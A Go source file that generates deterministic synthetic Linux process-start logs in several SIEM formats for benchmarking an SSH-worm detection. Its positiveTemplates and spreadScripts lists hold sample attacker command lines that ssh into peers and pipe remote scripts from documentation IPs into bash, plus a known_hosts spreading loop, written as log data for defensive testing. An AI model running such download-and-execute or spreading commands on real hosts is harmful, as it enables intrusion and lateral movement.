package main

import (
	"errors"
	"fmt"
	"math"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
	"time"
)

// genConfig describes a synthetic endpoint stream: Sysmon for Linux
// EventID 1 (or CIM JSON) process starts over many hosts, a small share of
// them ssh command lines and a smaller share matching the detection. It is
// deterministic for a seed, so bench phases and benchmarks see the same data.
type genConfig struct {
	// Events is the number of records. Default 1,000,000.
	Events int
	// Hosts is the number of distinct endpoints (record keys). Default 5000.
	Hosts int
	// PositiveRate is the fraction of records that match the detection.
	// Default 0.001.
	PositiveRate float64
	// SSHRate is the fraction of records whose process is ssh, matching or
	// not; at least PositiveRate. Default 0.01.
	SSHRate float64
	// SSHDRate is the fraction of the other records whose parent is an sshd
	// session: they carry "ssh" in their bytes, as interactive work on a
	// server does. Default 0.02.
	SSHDRate float64
	// Format is "sysmon" (syslog line with Sysmon XML), "cim" (one JSON
	// object), "envelope" (the Sysmon line in a shipper's JSON "message"),
	// "hec" (the Sysmon line as a Splunk HEC event), "ecs" or "ocsf" (the
	// event in that schema). auditd is not generated: its events span
	// several records. Default "sysmon".
	Format string
	// RecordSize pads records towards this many bytes with a longer parent
	// command line (a JVM class path); records never shrink below their
	// natural size (about 1.5 KB for Sysmon). Default 0: natural size.
	RecordSize int
	// Start is the event time of the first record. Default 2025-03-10T08:00:00Z.
	Start time.Time
	// Span is the event time covered by the whole stream: long enough that
	// 60-minute windows close. Default 3h.
	Span time.Duration
	// Seed makes the stream reproducible. Default 1.
	Seed uint64
}

func defaultGenConfig() genConfig {
	return genConfig{
		Events:       1_000_000,
		Hosts:        5000,
		PositiveRate: 0.001,
		SSHRate:      0.01,
		SSHDRate:     0.02,
		Format:       "sysmon",
		Start:        time.Date(2025, 3, 10, 8, 0, 0, 0, time.UTC),
		Span:         3 * time.Hour,
		Seed:         1,
	}
}

func (c genConfig) validate() error {
	var errs []error
	bad := func(format string, args ...any) { errs = append(errs, fmt.Errorf(format, args...)) }
	if c.Events <= 0 {
		bad("--events: must be positive, got %d", c.Events)
	}
	if c.Hosts <= 0 {
		bad("--hosts: must be positive, got %d", c.Hosts)
	}
	if c.PositiveRate < 0 || c.PositiveRate > 1 {
		bad("--positive-rate: must be in [0, 1], got %g", c.PositiveRate)
	}
	if c.SSHRate < c.PositiveRate || c.SSHRate > 1 {
		bad("--ssh-rate: must be in [--positive-rate, 1], got %g", c.SSHRate)
	}
	if c.SSHDRate < 0 || c.SSHDRate > 1 {
		bad("--sshd-rate: must be in [0, 1], got %g", c.SSHDRate)
	}
	if !slices.Contains(genFormats, c.Format) {
		bad("--format: want one of %s, got %q", strings.Join(genFormats, ", "), c.Format)
	}
	if c.RecordSize < 0 {
		bad("--record-size: must not be negative, got %d", c.RecordSize)
	}
	if c.Span < 0 {
		bad("--span: must not be negative, got %s", c.Span)
	}
	return errors.Join(errs...)
}

// recordKind is what a generated record is.
type recordKind uint8

const (
	kindPlain     recordKind = iota // a process that is not ssh
	kindSSHDChild                   // not ssh, but started from an sshd session
	kindSSH                         // ssh that does not match the detection
	kindPositive                    // ssh that matches the detection
)

// genRecord is one generated input record. Value is only valid until the
// next call to generator.next with the same buffer.
type genRecord struct {
	Key   []byte // the host: records of one host share a partition
	Value []byte
	Kind  recordKind
	Host  string
	PID   string // unique per record, so every positive opens its own group
	Time  time.Time
}

// generator builds records one at a time into a caller's buffer.
type generator struct {
	cfg     genConfig
	rng     *rand.Rand
	hosts   []string
	scratch []byte // the inner Sysmon line of an envelope
}

func newGenerator(cfg genConfig) (*generator, error) {
	if err := cfg.validate(); err != nil {
		return nil, err
	}
	g := &generator{cfg: cfg, rng: rand.New(rand.NewPCG(cfg.Seed, cfg.Seed^0x9e3779b97f4a7c15))}
	g.hosts = make([]string, cfg.Hosts)
	for i := range g.hosts {
		g.hosts[i] = fmt.Sprintf("%s-%05d.%s", hostRoles[i%len(hostRoles)], i, hostDomains[i%len(hostDomains)])
	}
	return g, nil
}

// kindOf returns the kind of record i; it depends on i alone. A Weyl
// sequence spreads each kind evenly over the stream, in the configured
// proportions (exact to within a record or two).
func (g *generator) kindOf(i int) recordKind {
	u := math.Mod(float64(i+1)*0.6180339887498949, 1)
	switch {
	case u < g.cfg.PositiveRate:
		return kindPositive
	case u < g.cfg.SSHRate:
		return kindSSH
	case u < g.cfg.SSHRate+g.cfg.SSHDRate*(1-g.cfg.SSHRate):
		return kindSSHDChild
	}
	return kindPlain
}

// eventTime is record i's place in the stream's event time, with a little
// jitter (well inside the grace period) as real shippers deliver.
func (g *generator) eventTime(i int) time.Time {
	off := time.Duration(0)
	if g.cfg.Events > 1 {
		off = time.Duration(float64(g.cfg.Span) * float64(i) / float64(g.cfg.Events))
	}
	jitter := time.Duration(g.rng.Int64N(int64(2*time.Second))) - time.Second
	t := g.cfg.Start.Add(off + jitter)
	if t.Before(g.cfg.Start) {
		t = g.cfg.Start
	}
	return t.Truncate(time.Millisecond)
}

// next appends record i, with event time t (zero: the stream's own time),
// to buf and returns it; rec.Value aliases the appended bytes.
func (g *generator) next(buf []byte, i int, t time.Time) ([]byte, genRecord) {
	if t.IsZero() {
		t = g.eventTime(i)
	}
	kind := g.kindOf(i)
	host := g.hosts[g.rng.IntN(len(g.hosts))]
	p := g.process(kind, i, host)
	start := len(buf)
	switch g.cfg.Format {
	case "cim":
		buf = g.appendCIM(buf, &p, host, t)
	case "envelope", "hec":
		buf = g.appendWrapped(buf, &p, host, t, i)
	case "ecs":
		buf = g.appendECS(buf, &p, host, t)
	case "ocsf":
		buf = g.appendOCSF(buf, &p, host, t)
	default:
		buf = g.appendSysmon(buf, &p, host, t, i)
	}
	rec := genRecord{
		Key:   buf[start+p.hostOff : start+p.hostOff+len(host)],
		Value: buf[start:],
		Kind:  kind,
		Host:  host,
		PID:   p.pid,
		Time:  t,
	}
	return buf, rec
}

// proc is the content of one process start, before encoding.
type proc struct {
	image, cmd, user, cwd              string
	parentImage, parentCmd, parentUser string
	pid, ppid                          string
	hashes                             string
	padParent                          bool
	hostOff                            int // offset of the host in the record, for the key
}

func (g *generator) process(kind recordKind, i int, host string) proc {
	r := g.rng
	p := proc{
		pid:  strconv.Itoa(1000 + i%4_000_000),
		ppid: strconv.Itoa(300 + r.IntN(60000)),
		user: pick(r, users),
	}
	p.parentUser = p.user
	p.cwd = "/home/" + p.user
	if p.user == "root" {
		p.cwd = "/root"
	}
	switch kind {
	case kindPositive:
		t := pick(r, positiveTemplates)
		p.image, p.cmd = "/usr/bin/ssh", fmt.Sprintf(t, pick(r, sshUsers), g.peer(host), r.IntN(254)+1, r.IntN(254)+1)
		p.parentImage, p.parentCmd = "/usr/bin/bash", pick(r, spreadScripts)
	case kindSSH:
		t := pick(r, sshTemplates)
		p.image, p.cmd = "/usr/bin/ssh", fmt.Sprintf(t, pick(r, sshUsers), g.peer(host))
		p.parentImage, p.parentCmd = pick2(r, sshParents)
	case kindSSHDChild:
		c := pick(r, plainProcesses)
		p.image, p.cmd = c[0], c[1]
		// Commands run over ssh ("ssh host cmd") and login shells are
		// children of the user's sshd session process.
		p.parentImage, p.parentCmd = "/usr/sbin/sshd", "sshd: "+p.user+"@pts/"+strconv.Itoa(r.IntN(8))
	default:
		c := pick(r, plainProcesses)
		p.image, p.cmd = c[0], c[1]
		p.parentImage, p.parentCmd = pick2(r, plainParents)
		p.padParent = true
	}
	p.hashes = fmt.Sprintf("SHA256=%016x%016x%016x%016x", r.Uint64(), r.Uint64(), r.Uint64(), r.Uint64())
	return p
}

// peer is another host of the fleet, the ssh target.
func (g *generator) peer(host string) string {
	h := g.hosts[g.rng.IntN(len(g.hosts))]
	if h == host && len(g.hosts) > 1 {
		h = g.hosts[(g.rng.IntN(len(g.hosts)-1)+1)%len(g.hosts)]
	}
	return h
}

// parentCmd returns p's parent command line padded towards the configured
// record size with a realistic JVM class path (no "ssh" in it).
func (g *generator) parentCmd(p *proc, natural int) string {
	if !p.padParent || g.cfg.RecordSize <= natural {
		return p.parentCmd
	}
	need := g.cfg.RecordSize - natural
	b := make([]byte, 0, len(p.parentCmd)+need+64)
	b = append(b, "/usr/lib/jvm/java-17-openjdk-amd64/bin/java -Xms512m -Xmx2g -Dfile.encoding=UTF-8 -cp "...)
	for n := 0; len(b) < need; n++ {
		if n > 0 {
			b = append(b, ':')
		}
		b = append(b, "/opt/app/lib/"...)
		b = append(b, jarNames[n%len(jarNames)]...)
		b = append(b, '-')
		b = strconv.AppendInt(b, int64(n), 10)
		b = append(b, ".jar"...)
	}
	b = append(b, " com.example.app.Main"...)
	return string(b)
}

// appendSysmon writes a Sysmon for Linux EventID 1 record as rsyslog
// forwards it: an RFC 3164 header, then the event XML on one line.
func (g *generator) appendSysmon(buf []byte, p *proc, host string, t time.Time, i int) []byte {
	start := len(buf)
	buf = t.AppendFormat(buf, time.Stamp)
	buf = append(buf, ' ')
	p.hostOff = len(buf) - start
	buf = append(buf, host...)
	buf = append(buf, ` sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="`...)
	buf = t.Add(37*time.Millisecond).AppendFormat(buf, "2006-01-02T15:04:05.000000000Z")
	buf = append(buf, `"/><EventRecordID>`...)
	buf = strconv.AppendInt(buf, int64(i+1), 10)
	buf = append(buf, `</EventRecordID><Correlation/><Execution ProcessID="`...)
	buf = strconv.AppendInt(buf, int64(700+i%50), 10)
	buf = append(buf, `" ThreadID="`...)
	buf = strconv.AppendInt(buf, int64(700+i%50), 10)
	buf = append(buf, `"/><Channel>Linux-Sysmon/Operational</Channel><Computer>`...)
	buf = append(buf, host...)
	buf = append(buf, `</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">`...)
	buf = t.AppendFormat(buf, "2006-01-02 15:04:05.000")
	buf = append(buf, `</Data><Data Name="ProcessGuid">`...)
	buf = g.appendGUID(buf)
	buf = data(buf, "ProcessId", p.pid)
	buf = data(buf, "Image", p.image)
	buf = append(buf, `<Data Name="FileVersion">-</Data><Data Name="Description">-</Data><Data Name="Product">-</Data><Data Name="Company">-</Data><Data Name="OriginalFileName">-</Data>`...)
	buf = data(buf, "CommandLine", p.cmd)
	buf = data(buf, "CurrentDirectory", p.cwd)
	buf = data(buf, "User", p.user)
	buf = append(buf, `<Data Name="LogonGuid">`...)
	buf = g.appendGUID(buf)
	buf = append(buf, `<Data Name="LogonId">`...)
	buf = strconv.AppendInt(buf, int64(userID(p.user)), 10)
	buf = append(buf, `</Data><Data Name="TerminalSessionId">`...)
	buf = strconv.AppendInt(buf, int64(g.rng.IntN(40)), 10)
	buf = append(buf, `</Data><Data Name="IntegrityLevel">no level</Data>`...)
	buf = data(buf, "Hashes", p.hashes)
	buf = append(buf, `<Data Name="ParentProcessGuid">`...)
	buf = g.appendGUID(buf)
	buf = data(buf, "ParentProcessId", p.ppid)
	buf = data(buf, "ParentImage", p.parentImage)
	// Everything but the parent command line is written: pad it to size.
	natural := len(buf) - start + len(p.parentCmd) + len(p.parentUser) + 128
	buf = data(buf, "ParentCommandLine", g.parentCmd(p, natural))
	buf = data(buf, "ParentUser", p.parentUser)
	return append(buf, `</EventData></Event>`...)
}

func (g *generator) appendGUID(buf []byte) []byte {
	v := g.rng.Uint64()
	buf = append(buf, '{')
	buf = appendHex(buf, v>>32, 8)
	buf = append(buf, '-')
	buf = appendHex(buf, v>>16, 4)
	buf = append(buf, '-')
	buf = appendHex(buf, v, 4)
	buf = append(buf, "-0000-000000000000}</Data>"...)
	return buf
}

func appendHex(buf []byte, v uint64, digits int) []byte {
	const hex = "0123456789abcdef"
	for k := digits - 1; k >= 0; k-- {
		buf = append(buf, hex[(v>>(4*uint(k)))&0xf])
	}
	return buf
}

// data appends <Data Name="name">value</Data>, escaping value as Sysmon does.
func data(buf []byte, name, value string) []byte {
	buf = append(buf, `<Data Name="`...)
	buf = append(buf, name...)
	buf = append(buf, `">`...)
	for k := 0; k < len(value); k++ {
		switch c := value[k]; c {
		case '&':
			buf = append(buf, "&amp;"...)
		case '<':
			buf = append(buf, "&lt;"...)
		case '>':
			buf = append(buf, "&gt;"...)
		case '"':
			buf = append(buf, "&quot;"...)
		case '\'':
			buf = append(buf, "&apos;"...)
		default:
			buf = append(buf, c)
		}
	}
	return append(buf, "</Data>"...)
}

// appendCIM writes a record as Splunk's Endpoint.Processes data model
// exports it: one JSON object with CIM field names and _time in epoch
// seconds.
func (g *generator) appendCIM(buf []byte, p *proc, host string, t time.Time) []byte {
	start := len(buf)
	buf = append(buf, `{"_time":`...)
	buf = strconv.AppendFloat(buf, float64(t.UnixMilli())/1000, 'f', 3, 64)
	buf = append(buf, `,"dest":`...)
	p.hostOff = len(buf) - start + 1
	buf = strconv.AppendQuote(buf, host)
	buf = append(buf, `,"user":`...)
	buf = strconv.AppendQuote(buf, p.user)
	buf = append(buf, `,"process_name":`...)
	buf = strconv.AppendQuote(buf, basename(p.image))
	buf = append(buf, `,"process_path":`...)
	buf = strconv.AppendQuote(buf, p.image)
	buf = append(buf, `,"process":`...)
	buf = strconv.AppendQuote(buf, p.cmd)
	buf = append(buf, `,"process_id":`...)
	buf = strconv.AppendQuote(buf, p.pid)
	buf = append(buf, `,"process_current_directory":`...)
	buf = strconv.AppendQuote(buf, p.cwd)
	buf = append(buf, `,"process_hash":`...)
	buf = strconv.AppendQuote(buf, p.hashes)
	buf = append(buf, `,"parent_process_name":`...)
	buf = strconv.AppendQuote(buf, basename(p.parentImage))
	buf = append(buf, `,"parent_process_path":`...)
	buf = strconv.AppendQuote(buf, p.parentImage)
	buf = append(buf, `,"parent_process_id":`...)
	buf = strconv.AppendQuote(buf, p.ppid)
	buf = append(buf, `,"vendor_product":"Microsoft Sysmon for Linux","action":"allowed","parent_process":`...)
	natural := len(buf) - start + len(p.parentCmd) + 4
	buf = strconv.AppendQuote(buf, g.parentCmd(p, natural))
	return append(buf, '}')
}

// genFormats are the input formats the generator writes.
var genFormats = []string{"sysmon", "cim", "envelope", "hec", "ecs", "ocsf"}

// appendWrapped writes the Sysmon line of the record inside a JSON
// envelope: Vector's {"host","message"} or Splunk HEC's {"host","time","event"}.
func (g *generator) appendWrapped(buf []byte, p *proc, host string, t time.Time, i int) []byte {
	g.scratch = g.appendSysmon(g.scratch[:0], p, host, t, i)
	start := len(buf)
	buf = append(buf, `{"host":`...)
	p.hostOff = len(buf) - start + 1
	buf = strconv.AppendQuote(buf, host)
	if g.cfg.Format == "hec" {
		buf = append(buf, `,"sourcetype":"sysmon:linux","time":`...)
		buf = strconv.AppendFloat(buf, float64(t.UnixMilli())/1000, 'f', 3, 64)
		buf = append(buf, `,"event":`...)
	} else {
		buf = append(buf, `,"source_type":"file","message":`...)
	}
	buf = appendJSONString(buf, g.scratch)
	return append(buf, '}')
}

// appendECS writes the record as an Elastic Agent process start event.
func (g *generator) appendECS(buf []byte, p *proc, host string, t time.Time) []byte {
	start := len(buf)
	buf = append(buf, `{"host":{"name":`...)
	p.hostOff = len(buf) - start + 1
	buf = strconv.AppendQuote(buf, host)
	buf = append(buf, `},"@timestamp":"`...)
	buf = t.UTC().AppendFormat(buf, "2006-01-02T15:04:05.000Z")
	buf = append(buf, `","event":{"category":["process"],"type":["start"],"kind":"event"},"user":{"name":`...)
	buf = strconv.AppendQuote(buf, p.user)
	buf = append(buf, `},"process":{"pid":`...)
	buf = append(buf, p.pid...)
	buf = append(buf, `,"executable":`...)
	buf = strconv.AppendQuote(buf, p.image)
	buf = append(buf, `,"name":`...)
	buf = strconv.AppendQuote(buf, basename(p.image))
	buf = append(buf, `,"command_line":`...)
	buf = strconv.AppendQuote(buf, p.cmd)
	buf = append(buf, `,"parent":{"pid":`...)
	buf = append(buf, p.ppid...)
	buf = append(buf, `,"executable":`...)
	buf = strconv.AppendQuote(buf, p.parentImage)
	buf = append(buf, `,"name":`...)
	buf = strconv.AppendQuote(buf, basename(p.parentImage))
	buf = append(buf, `,"command_line":`...)
	natural := len(buf) - start + len(p.parentCmd) + 6
	buf = strconv.AppendQuote(buf, g.parentCmd(p, natural))
	return append(buf, "}}}"...)
}

// appendOCSF writes the record as an OCSF Process Activity (Launch).
func (g *generator) appendOCSF(buf []byte, p *proc, host string, t time.Time) []byte {
	start := len(buf)
	buf = append(buf, `{"device":{"hostname":`...)
	p.hostOff = len(buf) - start + 1
	buf = strconv.AppendQuote(buf, host)
	buf = append(buf, `,"os":{"type":"Linux"}},"class_uid":1007,"activity_id":1,"time":`...)
	buf = strconv.AppendInt(buf, t.UnixMilli(), 10)
	buf = append(buf, `,"actor":{"user":{"name":`...)
	buf = strconv.AppendQuote(buf, p.user)
	buf = append(buf, `}},"process":{"pid":`...)
	buf = append(buf, p.pid...)
	buf = append(buf, `,"name":`...)
	buf = strconv.AppendQuote(buf, basename(p.image))
	buf = append(buf, `,"cmd_line":`...)
	buf = strconv.AppendQuote(buf, p.cmd)
	buf = append(buf, `,"file":{"path":`...)
	buf = strconv.AppendQuote(buf, p.image)
	buf = append(buf, `},"parent_process":{"pid":`...)
	buf = append(buf, p.ppid...)
	buf = append(buf, `,"name":`...)
	buf = strconv.AppendQuote(buf, basename(p.parentImage))
	buf = append(buf, `,"file":{"path":`...)
	buf = strconv.AppendQuote(buf, p.parentImage)
	buf = append(buf, `},"cmd_line":`...)
	natural := len(buf) - start + len(p.parentCmd) + 6
	buf = strconv.AppendQuote(buf, g.parentCmd(p, natural))
	return append(buf, "}}}"...)
}

// appendJSONString appends s as a JSON string: the escapes JSON requires and
// nothing more (a shipper writes the line as it was).
func appendJSONString(buf, s []byte) []byte {
	const hex = "0123456789abcdef"
	buf = append(buf, '"')
	for _, c := range s {
		switch {
		case c == '"' || c == '\\':
			buf = append(buf, '\\', c)
		case c < 0x20:
			buf = append(buf, '\\', 'u', '0', '0', hex[c>>4], hex[c&0xf])
		default:
			buf = append(buf, c)
		}
	}
	return append(buf, '"')
}

func basename(path string) string {
	for k := len(path) - 1; k >= 0; k-- {
		if path[k] == '/' {
			return path[k+1:]
		}
	}
	return path
}

func userID(u string) int {
	switch u {
	case "root":
		return 0
	case "www-data":
		return 33
	}
	return 1000 + len(u)
}

func pick[T any](r *rand.Rand, s []T) T { return s[r.IntN(len(s))] }

func pick2(r *rand.Rand, s [][2]string) (string, string) {
	v := s[r.IntN(len(s))]
	return v[0], v[1]
}

var (
	hostRoles   = []string{"web", "api", "db", "cache", "worker", "build", "k8s-node", "bastion", "batch", "mq"}
	hostDomains = []string{"prod.example.net", "stage.example.net", "corp.example.com"}
	users       = []string{"root", "root", "root", "ubuntu", "deploy", "www-data", "jenkins", "alice", "bob", "svc-backup", "postgres", "ec2-user"}
	sshUsers    = []string{"root", "ubuntu", "deploy", "admin", "git", "ec2-user"}

	// positiveTemplates are ssh lines of SSH worms and spreaders: options
	// glued to -o, as ESCU matches them, and a download URL. Arguments:
	// remote user, host, two address octets.
	positiveTemplates = []string{
		`ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 %s@%s 'curl -fsSL http://203.0.%d.%d/ks | bash >/dev/null 2>&1 &'`,
		`ssh -oBatchMode=yes -oConnectTimeout=8 %s@%s "wget -qO- https://198.51.%d.%d/i.sh | sh"`,
		`ssh -oStrictHostKeyChecking=no %s@%s (curl -s http://192.0.%d.%d/x.sh||wget -q -O- http://192.0.2.1/x.sh)|bash`,
	}
	// sshTemplates are ordinary ssh use: no URL, spaced options, git.
	// Arguments: remote user, host.
	sshTemplates = []string{
		`ssh %s@%s uptime`,
		`ssh -oBatchMode=yes %s@%s tar czf - /var/lib/app/data`,
		`ssh -o StrictHostKeyChecking=no %s@%s "curl -fsS https://artifacts.example.com/app.tgz -o /tmp/app.tgz"`,
		`ssh -i /root/.ssh/id_ed25519 -p 2222 %s@%s systemctl is-active nginx`,
		`ssh -T -oConnectTimeout=10 %s@%s git-upload-pack 'infra/ansible.git'`,
	}
	sshParents = [][2]string{
		{"/usr/bin/bash", "-bash"},
		{"/usr/bin/git", "git fetch --prune origin"},
		{"/usr/bin/python3", "/usr/bin/python3 /usr/bin/ansible-playbook -i inventory site.yml"},
		{"/usr/bin/rsync", "rsync -az /srv/backup/ backup01:/srv/backup/"},
	}
	spreadScripts = []string{"bash /tmp/.x/spread.sh", "/bin/bash -c for h in $(cat /root/.ssh/known_hosts|cut -d' ' -f1); do ssh ...; done", "bash ./ks"}

	// plainProcesses are everyday Linux process starts (image, command line).
	plainProcesses = [][2]string{
		{"/usr/bin/cat", "cat /etc/os-release"},
		{"/usr/bin/bash", "/bin/bash -c /usr/local/bin/healthcheck.sh --quiet"},
		{"/usr/bin/systemctl", "systemctl status nginx.service --no-pager"},
		{"/usr/bin/python3", "/usr/bin/python3 /opt/monitoring/collect.py --interval 60"},
		{"/usr/bin/curl", "curl -fsS -m 5 https://metadata.internal.example.net/latest/meta-data/instance-id"},
		{"/usr/bin/git", "git -C /srv/app pull --ff-only"},
		{"/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf"},
		{"/usr/bin/ls", "ls -la /var/log/nginx"},
		{"/usr/bin/grep", "grep -E ERROR|WARN /var/log/app/app.log"},
		{"/usr/bin/awk", "awk {print $1} /proc/loadavg"},
		{"/usr/bin/docker", "docker ps --format {{.Names}}"},
		{"/usr/local/bin/kubectl", "kubectl get pods -n payments -o wide"},
		{"/usr/bin/sudo", "sudo -n /usr/bin/apt-get update"},
		{"/usr/bin/apt-get", "/usr/bin/apt-get -qq update"},
		{"/usr/bin/find", "find /tmp -type f -mtime +7 -delete"},
		{"/usr/bin/tar", "tar czf /srv/backup/etc-daily.tgz /etc"},
		{"/usr/bin/date", "date +%s"},
		{"/usr/bin/sleep", "sleep 30"},
		{"/usr/bin/psql", "psql -U postgres -c SELECT 1"},
		{"/usr/bin/node", "node /srv/api/dist/server.js"},
	}
	plainParents = [][2]string{
		{"/usr/sbin/cron", "/usr/sbin/CRON -f -P"},
		{"/usr/lib/systemd/systemd", "/sbin/init splash"},
		{"/usr/bin/bash", "/bin/bash /usr/local/bin/deploy.sh"},
		{"/usr/bin/python3", "/usr/bin/python3 /usr/bin/supervisord -n -c /etc/supervisor/supervisord.conf"},
		{"/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2 -namespace moby -id 4f2c9d -address /run/containerd/containerd.sock"},
	}
	jarNames = []string{"spring-core-6.1.4", "jackson-databind-2.16.1", "netty-handler-4.1.107", "slf4j-api-2.0.12", "guava-33.0.0-jre", "kafka-clients-3.7.0"}
)
